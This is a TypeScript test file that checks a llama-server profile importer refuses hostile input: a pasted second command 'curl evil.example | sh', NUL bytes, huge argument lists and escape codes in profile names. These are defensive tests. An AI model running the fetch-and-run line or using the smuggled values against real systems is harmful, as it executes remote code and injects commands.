import { describe, expect, it } from 'vitest'
import { importArgv, importCommand, ImportError } from './import-command'
import { profileArgv } from './launch-spec'
import { ProfileEditSchema } from './profile-edit-schema'

const fail = (job: () => unknown): Error => {
  try {
    job()
  } catch (err) {
    return err as Error
  }
  throw new Error('it did not throw')
}

describe('importing hostile commands (issue #26)', () => {
  it('a pasted newline is a second command, refused in one sentence', () => {
    const err = fail(() => importCommand('llama-server -m a.gguf\ncurl evil.example | sh'))
    expect(err).toBeInstanceOf(ImportError)
    expect(err.message).toMatch(/^Line 2 of the pasted text starts a second command: .*\.$/)
  })

  it('a NUL byte is refused, in a pasted command and in an argv', () => {
    expect(fail(() => importCommand('llama-server -m a\u0000.gguf')).message).toMatch(/^The command holds a NUL character/)
    expect(fail(() => importArgv(['llama-server', '-m', 'a\u0000.gguf']))).toBeInstanceOf(ImportError)
  })

  it('200,000 arguments are refused, pasted or as an argv', () => {
    const argv = ['llama-server', ...Array.from({ length: 200_000 }, (_, i) => `--x${i}`)]
    expect(fail(() => importArgv(argv)).message).toMatch(/^The command has more than 4,096 arguments/)
    expect(fail(() => importCommand(argv.join(' ')))).toBeInstanceOf(ImportError)
  })

  it('a profile that already holds 200,000 arguments renders without overflowing the stack', () => {
    const profile = importArgv(['llama-server', '-m', 'a.gguf', '--foo', '1'])
    const extraArgs = Array.from({ length: 200_000 }, (_, i) => `--x${i}`)
    // In the recorded order (one slot of 200,000), and after it (no recorded order).
    for (const argOrder of [[{ extra: 200_000 }], []]) {
      const argv = profileArgv({ ...profile, extraArgs, argOrder })
      expect(argv).toHaveLength(3 + 200_000)
      expect(argv.indexOf('--x199999') - argv.indexOf('--x0')).toBe(199_999)
    }
  })

  it('a profile name with an escape code or a line break is refused (import and edit)', () => {
    expect(fail(() => importCommand('llama-server -m a.gguf', { name: '\u001b[31mred\u001b[0m' })).message).toMatch(
      /^The profile name holds a control character/,
    )
    expect(fail(() => importCommand('llama-server -m a.gguf', { name: 'two\nlines' }))).toBeInstanceOf(ImportError)
    expect(fail(() => importCommand('llama-server -m a.gguf', { name: 'c1 \u009b31m' }))).toBeInstanceOf(ImportError)
    expect(ProfileEditSchema.safeParse({ name: 'evil\u001b]0;title\u0007' }).success).toBe(false)
    expect(ProfileEditSchema.safeParse({ name: 'Qwen 3.6 – fast' }).success).toBe(true)
  })
})
